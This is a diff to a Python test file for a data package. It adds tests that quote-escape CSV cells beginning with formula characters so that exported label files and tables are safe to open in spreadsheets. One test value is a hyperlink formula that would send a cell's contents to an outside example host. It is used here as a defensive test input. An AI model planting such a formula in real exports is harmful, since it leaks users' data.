@@ -2,18 +2,25 @@
 
 from __future__ import annotations
 
+import csv
 import re
 import unicodedata
 from pathlib import Path
 
 import numpy as np
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from fedul_flwr.data.columns import Column, Columns
-from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_csv_rows
+from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_csv_rows, write_cell
 from fedul_flwr.data.local_data import load_unlabeled_sets
+from fedul_flwr.data.local_files import read_rows
+from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.sources import load_source
 from fedul_flwr.data.tables import TableOptions
+from fedul_flwr.data.types import Propagated
+from fedul_flwr.experiments.compare_table import csv_text
 from tests.support.points import load_points
 from tests.support.refusals import refuses
 
@@ -205,9 +212,9 @@ def test_rows_keep_texts_that_tables_take_as_missing(tmp_path: Path) -> None:
 
 def test_a_row_of_more_than_a_mebibyte_and_many_columns(tmp_path: Path) -> None:
     rng = np.random.default_rng(0)
-    numbers = rng.normal(size=(2, 56_000))
-    lines = [",".join([*(f"g{i}" for i in range(56_000)), "label"])]
-    lines += [",".join([*map(repr, row.tolist()), str(k)]) for k, row in enumerate(numbers)]
+    numbers = rng.normal(size=(2, 20_000))
+    lines = [",".join([*(f"g{i}" for i in range(20_000)), "label"])]
+    lines += [",".join([*(f"{x:.60f}" for x in row), str(k)]) for k, row in enumerate(numbers)]
     assert len(lines[1]) > 1 << 20
     for split in ("train", "test"):
         (tmp_path / f"{split}.csv").write_text("\n".join(lines))
@@ -230,3 +237,38 @@ def test_given_a_quote_that_is_not_closed_then_no_row_is_swallowed(
     (tmp_path / "a.csv").write_text(text)
     with refuses("csv-quote"):
         open_csv(tmp_path / "a.csv")
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1", "-x.png", "@SUM(A1)", "\tx", "\r=x", "'=x", "''-"])
+def test_given_a_sign_in_front_when_written_then_a_quote_is_before_it(text: str) -> None:
+    assert write_cell(text) == f"'{text}"
+    assert read_cell(write_cell(text)) == text
+
+
+@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
+def test_given_any_text_when_written_and_read_then_it_is_the_same(text: str) -> None:
+    written = write_cell(text)
+    assert read_cell(written) == text
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_given_a_file_with_a_formula_for_a_name_when_labeled_then_its_name_is_text(
+    tmp_path: Path,
+) -> None:
+    found = Propagated(np.array([1]), np.array([0.5]))
+    write_labels(tmp_path / "labels.csv", [FORMULA], found, ["sound", "-ill"])
+    with (tmp_path / "labels.csv").open(newline="") as stream:
+        _, row = csv.reader(stream)
+    assert row == [f"'{FORMULA}", "1", "'-ill", "0.5"]
+    names, _ = read_labels(tmp_path / "labels.csv")
+    assert names == [FORMULA]
+    # The same file may come back as an owner's known labels.
+    rows, _ = read_rows(tmp_path / "labels.csv")
+    assert rows[1][0] == FORMULA
+
+
+def test_given_numbers_below_zero_when_written_then_they_stay_numbers() -> None:
+    assert csv_text([{"run": "=1+1", "change": -0.5}]) == "run,change\n'=1+1,-0.5\n"
